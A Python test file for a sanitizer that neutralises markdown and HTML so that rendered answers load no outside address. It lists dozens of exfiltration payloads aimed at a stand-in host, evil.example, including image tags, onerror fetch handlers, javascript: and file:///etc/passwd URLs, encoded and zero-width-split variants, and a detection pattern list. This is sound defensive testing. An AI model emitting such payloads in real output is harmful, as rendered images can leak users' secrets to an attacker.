"""Nothing in an answer makes a client that renders it load an address by itself. One line for each way there is."""

import re
import time

import pytest

from shared.answers.inert import decoded, inert, visible

EVIL = "https://evil.example/x.png?q=secret"
FETCHES = {
    "a picture": f"![chart]({EVIL})",
    "a picture with a title": f'![chart]({EVIL} "title")',
    "a picture with its address in brackets": f"![chart](<{EVIL}>)",
    "a picture by reference": f"![chart][1]\n\n[1]: {EVIL}",
    "a picture by its own name": f"![chart]\n\n[chart]: {EVIL}",
    "a picture in a link": f"[![chart]({EVIL})]({EVIL})",
    "a picture after exclamation marks": f"Look!!![chart]({EVIL})",
    "a picture without words": f"![]({EVIL})",
    "a picture with an address without a scheme": "![](//evil.example/x.png)",
    "a picture with an encoded address": "![](&#104;ttps&colon;//evil.example/x.png)",
    "a picture of encoded punctuation": f"&#33;&lsqb;chart&rsqb;&lpar;{EVIL}&rpar;",
    "a picture of doubly encoded punctuation": f"&amp;excl;&amp;#x5b;chart&amp;#93;({EVIL})",
    "a picture split by characters of no width": f"!\u200b[chart]\u2060({EVIL})",
    "a picture split by code marks": f"!`[chart]`({EVIL})",
    "a picture split by fence marks": f"!~~~[chart]~~~({EVIL})",
    "an embedded note": "![[evil.example/x.png]]",
    "an embedded address": f"![[{EVIL}]]",
    "a definition": f"[1]: {EVIL}",
    "a footnote": f"[^1]: ![x]({EVIL})",
    "a link that is previewed": f"[chart]({EVIL})",
    "a bare address": f"Look at {EVIL} now",
    "a bare host": "Look at www.evil.example/x.png",
    "a bare host without a scheme": "Look at evil.example/x.png",
    "an address behind two slashes": "Look at //evil.example/x.png",
    "an address in a code span that is not closed": f"a ` b {EVIL}",
    "an address between two code spans": f"`a` {EVIL} `b`",
    "an address behind a backslash": f"Look at \\{EVIL} now",
    "an address behind a letter's mark": f"Look at _{EVIL} now",
    "an address behind a long word": f"{'x' * 40}{EVIL}",
    "an address without slashes": "Look at https:evil.example now",
    "an autolink": f"<{EVIL}>",
    "an img": f'<img src="{EVIL}">',
    "an img in capitals over lines": f'<IMG\n\tSRC = "{EVIL}"\n>',
    "an img that is not closed": f'<img src="{EVIL}" x="',
    "an img with a set of sources": f'<img srcset="{EVIL} 2x">',
    "an img with a slash": f"<img/src={EVIL}>",
    "an img with a handler": "<img src=x onerror=fetch('//evil.example')>",
    "an encoded img": f"&lt;img src={EVIL}&gt;",
    "an img that is encoded twice": f"&amp;lt;img src={EVIL}&amp;gt;",
    "an img by numbers": f"&#x3C;img src={EVIL}&#62;",
    "an img split by a soft hyphen": f"<\u00adimg src={EVIL}>",
    "an img split by a NUL": f"<\x00img src={EVIL}>",
    "an img split by a code mark": f"<`img src={EVIL}>",
    "an img split by a command": f"<\\hrefimg src={EVIL}>",
    "a picture element": f'<picture><source srcset="{EVIL}"></picture>',
    "an iframe": f'<iframe src="{EVIL}"></iframe>',
    "an iframe with a document": "<iframe srcdoc='<img src=//evil.example>'></iframe>",
    "a stylesheet": f'<link rel="stylesheet" href="{EVIL}">',
    "a prefetch": f'<link rel="dns-prefetch" href="{EVIL}">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "a base": '<base href="//evil.example/">',
    "an svg": f'<svg><image href="{EVIL}"/></svg>',
    "an svg by use": f'<svg><use xlink:href="{EVIL}"/></svg>',
    "a style element": f"<style>@import url({EVIL});</style>",
    "a style attribute": f'<p style="background:url({EVIL})">x</p>',
    "an object": f'<object data="{EVIL}"></object>',
    "an embed": f'<embed src="{EVIL}">',
    "a video's poster": f'<video poster="{EVIL}"></video>',
    "an audio": f'<audio src="{EVIL}" autoplay></audio>',
    "a track": f'<video><track src="{EVIL}"></video>',
    "an input's picture": f'<input type="image" src="{EVIL}">',
    "a table's background": f'<table background="{EVIL}"></table>',
    "a script": f'<script src="{EVIL}"></script>',
    "a form": f'<form action="{EVIL}">',
    "a comment of a browser": f"<!--[if IE]><img src={EVIL}><![endif]-->",
    "a processing instruction": f'<?xml-stylesheet href="{EVIL}"?>',
    "a custom element": f'<x-picture src="{EVIL}"></x-picture>',
    "data": "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "a script as an address": "[x](javascript:fetch('//evil.example'))",
    "a file as an address": "![](file:///etc/passwd)",
    "an attribute list": f"word{{: style='background:url({EVIL})'}}",
    "an attribute list of a span": f"[word]{{style='background:url({EVIL})'}}",
    "a TeX picture": f"$\\includegraphics{{{EVIL}}}$",
    "a TeX picture behind two backslashes": f"$\\\\includegraphics{{{EVIL}}}$",
    "a TeX link": f"$\\href{{{EVIL}}}{{x}}$",
    "a TeX style": f"$\\htmlStyle{{background:url({EVIL})}}{{x}}$",
    "a directive": f".. image:: {EVIL}",
    "a diagram": f"```mermaid\nA[<img src={EVIL}>]\n```",
    "a diagram behind tildes": f"~~~mermaid\nA[<img src={EVIL}>]\n~~~",
}  # fmt: skip
CODE_SPAN = re.compile(r"`[^`]*`")


def loads(text: str) -> list[str]:
    """What a renderer would find in a text, code spans left out: these are shown as they are."""
    text = decoded(CODE_SPAN.sub("", text))
    patterns = [
        r"<[A-Za-z/!?]", r"!\[", r"\]\(", r"\]\[", r"\]:", r"\]\{", r"\{:", r"`", r"~~~", r"://",
        r"\bwww\.\w", r"\b(?:javascript|data|file):\S", r"\\+(?:include\w*|href|html\w*)\b", r"^\s*\.\. ",
        r"evil\.example/",
    ]  # fmt: skip
    return [pattern for pattern in patterns if re.search(pattern, text, re.MULTILINE)]


@pytest.mark.parametrize("text", FETCHES.values(), ids=FETCHES.keys())
def test_a_client_loads_nothing_by_itself(text: str) -> None:
    for around in (text, f"Before.\n\n{text}\n\nAfter.", f"- item {text}", f"| cell | {text} |"):
        assert not loads(inert(around)), inert(around)


@pytest.mark.parametrize("text", FETCHES.values(), ids=FETCHES.keys())
def test_what_is_inert_stays_so(text: str) -> None:
    assert not loads(inert(inert(text)))


def test_an_address_can_still_be_read() -> None:
    assert inert(f"Look at {EVIL}.") == f"Look at `{EVIL}`."
    assert inert(f"(see {EVIL}), or [here]({EVIL})") == f"(see `{EVIL}`), or [here] (`{EVIL}`)"


@pytest.mark.parametrize(
    "text",
    [
        "A < B, 5 <= 6 and x > y.",
        "Use `pip install` & `make`; it costs 3 €, i.e. *more* than **2**.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "The set {a, b} and $\\frac{1}{2}$ stay.",
        "See [4] and (note: it works!) [a].",
        "Grüße aus Köln, 東京, Ελλάδα, हिन्दी.",
        "Wait! [siehe Anhang] at 10:30, ratio 1/2, and/or.",
    ],
)
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert inert(text) == text


@pytest.mark.parametrize("code", [0x00, 0x1B, 0x7F, 0x9B, 0xAD, 0x200B, 0x200D, 0x202E, 0x2066, 0x2060, 0xFEFF, 0xFE0F,
                                  0xE0041, 0xE0100, 0xD800, 0xE000, 0x3164, 0x034F])  # fmt: skip
def test_control_bidirectional_and_zero_width_characters_are_dropped(code: int) -> None:
    assert visible(f"a{chr(code)}b") == "ab"


def test_line_feeds_stay_and_other_blanks_become_spaces() -> None:
    assert visible("a\r\nb\tc\u2028d") == "a \nb c d"


@pytest.mark.parametrize(
    "hostile",
    ["!", "<", "<a", "&", "&amp;", "![", "](", "`", "~", "{", "{=", "{a=", "\\", "a.", "//", "a-", ":", "http://",
     ".. ", "\\include", "www.", "[", " ", "\n", "data:", "a://"],
)  # fmt: skip
def test_hostile_repetitions_take_linear_time(hostile: str) -> None:
    def seconds(size: int) -> float:
        text = hostile * (size // len(hostile))
        started = time.process_time()
        inert(text)
        return time.process_time() - started

    assert seconds(64_000) < 0.05 + 16 * seconds(8_000)
